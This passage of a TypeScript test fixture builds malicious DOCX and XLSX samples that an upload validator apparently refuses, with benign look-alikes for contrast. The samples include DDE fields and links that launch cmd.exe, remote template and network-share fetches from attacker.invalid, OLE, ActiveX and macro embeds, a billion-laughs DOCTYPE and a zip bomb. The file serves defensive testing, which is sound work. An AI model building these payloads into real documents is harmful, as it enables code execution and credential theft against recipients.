    overrides: { '/word/settings.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml' },
    parts: [
      { name: 'word/settings.xml', data: `<?xml version="1.0" encoding="UTF-8"?><w:settings ${WORD_NS}><w:attachedTemplate r:id="rId1"/></w:settings>` },
      { name: 'word/_rels/settings.xml.rels', data: relationships([{ id: 'rId1', type, target, external: true }]) },
    ],
  });

export const ATTACK_OFFICE: Record<string, AttackOffice> = {
  'DOCX with a remote template (attachedTemplate, TargetMode="External" in word/_rels/settings.xml.rels)': {
    build: () => remoteTemplate('attachedTemplate', 'http://example.invalid/template.dotm'),
    name: 'to-khai.docx',
    code: 'ACTIVE_CONTENT_REFUSED',
    says: /attachedTemplate to http:\/\/example\.invalid\/template\.dotm/,
  },
  'DOCX whose template is a web link in disguise (a hyperlink-typed relationship used by w:attachedTemplate)': {
    build: () => remoteTemplate('hyperlink', 'https://example.invalid/template.dotm'),
    name: 'a.docx',
    code: 'ACTIVE_CONTENT_REFUSED',
    says: /outside link \(rId1\) for attachedTemplate/,
  },
  'DOCX with a picture linked from a network share (an external image relationship)': {
    build: () => docxWith({ rels: [{ id: 'rId7', type: 'image', target: 'file://///attacker.invalid/share/pixel.png', external: true }] }),
    name: 'a.docx',
    code: 'ACTIVE_CONTENT_REFUSED',
    says: /load content from outside/,
  },
  'DOCX with a DDEAUTO field (w:fldSimple)': {
    build: () =>
      docxWith({
        body: `<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe" '><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`,
      }),
    name: 'a.docx',
    code: 'ACTIVE_CONTENT_REFUSED',
    says: /DDEAUTO field/,
  },
  'DOCX with a DDE field split over several w:instrText runs': {
    build: () => docxWith({ body: fieldRuns(' D', 'DE c:\\\\windows\\\\system32\\\\cmd.exe ', '"/k calc.exe"') }),
    name: 'a.docx',
    code: 'ACTIVE_CONTENT_REFUSED',
    says: /DDE field/,
  },
  'DOCX with an INCLUDEPICTURE field fetching from a network share': {
    build: () => docxWith({ body: fieldRuns('INCLUDEPICTURE "\\\\\\\\attacker.invalid\\\\s\\\\x.png" \\\\d') }),
    name: 'a.docx',
    code: 'ACTIVE_CONTENT_REFUSED',
    says: /INCLUDEPICTURE field/,
  },
  'DOCX with an OLE package embedded (word/embeddings/oleObject1.bin, o:OLEObject)': {
    build: () =>
      docxWith({
        body: '<w:p><w:r><w:object><v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:75pt;height:50pt"/><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1" r:id="rId5"/></w:object></w:r></w:p>',
        rels: [{ id: 'rId5', type: 'oleObject', target: 'embeddings/oleObject1.bin' }],
        parts: [{ name: 'word/embeddings/oleObject1.bin', data: CFB }],
      }),
    name: 'a.docx',
    code: 'ACTIVE_CONTENT_REFUSED',
    says: /OLE or ActiveX/,
  },
  'DOCX with an ActiveX control': {
    build: () =>
      docxWith({
        rels: [{ id: 'rId9', type: 'control', target: 'activeX/activeX1.xml' }],
        parts: [
          {
            name: 'word/activeX/activeX1.xml',
            data: '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
          },
        ],
      }),
    name: 'a.docx',
    code: 'ACTIVE_CONTENT_REFUSED',
    says: /OLE or ActiveX/,
  },
  'DOCX whose document declares entities (a billion-laughs DOCTYPE)': {
    build: () =>
      makeZip(
        docxEntries().map((e) =>
          e.name === 'word/document.xml'
            ? {
                ...e,
                data: `<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document ${WORD_NS}><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>`,
              }
            : e,
        ),
      ),
    name: 'a.docx',
    code: 'UNSUPPORTED_MEDIA_TYPE',
    says: /DOCTYPE/,
  },
  'DOCX zip bomb: an entry declares 4 KiB and expands to 40 MiB': {
    build: () => makeZip([...docxEntries(), { name: 'word/media/image1.png', data: Buffer.alloc(40 * 1024 * 1024), declaredSize: 4096 }]),
    name: 'a.docx',
    code: 'PAYLOAD_TOO_LARGE',
    says: /expands beyond the size it declares/,
  },
  'XLSX with a DDE link (xl/externalLinks/externalLink1.xml)': {
    build: () =>
      makeZip([
        ...xlsxEntries().map((e) =>
          e.name === 'xl/_rels/workbook.xml.rels'
            ? {
                ...e,
                data: relationships([
                  { id: 'rId1', type: 'worksheet', target: 'worksheets/sheet1.xml' },
                  { id: 'rId2', type: 'externalLink', target: 'externalLinks/externalLink1.xml' },
                ]),
              }
            : e,
        ),
        {
          name: 'xl/externalLinks/externalLink1.xml',
          data: '<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>',
        },
      ]),
    name: 'a.xlsx',
    code: 'ACTIVE_CONTENT_REFUSED',
    says: /a DDE link/,
  },
  'DOCX with a hyperlink to a local program': {
    build: () =>
      docxWith({
        body: '<w:p><w:hyperlink r:id="rId3"><w:r><w:t>Bấm vào đây</w:t></w:r></w:hyperlink></w:p>',
        rels: [{ id: 'rId3', type: 'hyperlink', target: 'file:///C:/Windows/System32/calc.exe', external: true }],
      }),
    name: 'a.docx',
    code: 'ACTIVE_CONTENT_REFUSED',
    says: /non-web address/,
  },
  'DOCX embedding a macro-enabled workbook where a chart keeps its data': {
    build: () =>
      docxWith({
        parts: [{ name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', data: makeZip([...xlsxEntries(), { name: 'xl/vbaProject.bin', data: CFB }]) }],
      }),
    name: 'a.docx',
    code: 'ACTIVE_CONTENT_REFUSED',
    says: /macros/,
  },
};

/** Office files that look close to the attacks but are ordinary: they stay accepted. */
export const BENIGN_OFFICE: Record<string, () => Buffer> = {
  'DOCX with a web hyperlink': () =>
    docxWith({
      body: '<w:p><w:hyperlink r:id="rId3"><w:r><w:t>dichvucong.gov.vn</w:t></w:r></w:hyperlink></w:p>',
      rels: [{ id: 'rId3', type: 'hyperlink', target: 'https://dichvucong.gov.vn/p/home/dvc-trang-chu.html', external: true }],
    }),
  'DOCX with a page-number field and a chart whose data is an embedded workbook': () =>
    docxWith({
      body: fieldRuns(' PAGE \\\\* MERGEFORMAT '),
      rels: [{ id: 'rId4', type: 'package', target: 'embeddings/Microsoft_Excel_Worksheet.xlsx' }],
      parts: [{ name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', data: makeXlsx() }],
    }),
  'XLSX as Excel writes it': () => makeXlsx(),
};
